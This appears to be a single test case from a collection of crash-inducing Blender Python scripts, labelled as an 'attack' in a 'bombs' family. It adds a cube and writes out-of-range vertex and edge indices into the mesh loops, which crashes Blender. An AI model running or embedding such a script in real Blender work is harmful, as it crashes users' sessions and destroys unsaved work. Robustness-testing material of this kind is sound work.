# attack: faces whose corners point at vertices far away in memory: the facts crash
# family: bombs
# ends: BlenderCrashed
# alone: BlenderCrashed
import bpy
import numpy as np

bpy.ops.mesh.primitive_cube_add()
mesh = bpy.context.object.data
mesh.loops.foreach_set("vertex_index", np.full(len(mesh.loops), 500_000_000, dtype=np.int32))
mesh.loops.foreach_set("edge_index", np.full(len(mesh.loops), 500_000_000, dtype=np.int32))
mesh.update()
